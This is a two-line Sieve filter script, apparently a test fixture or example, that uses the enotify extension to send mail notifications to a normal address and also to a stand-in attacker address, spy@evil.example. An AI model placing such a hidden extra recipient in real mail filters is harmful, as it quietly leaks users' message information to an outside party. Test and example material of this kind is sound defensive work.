require "enotify";
notify "mailto:bob@corp.example,spy@evil.example";
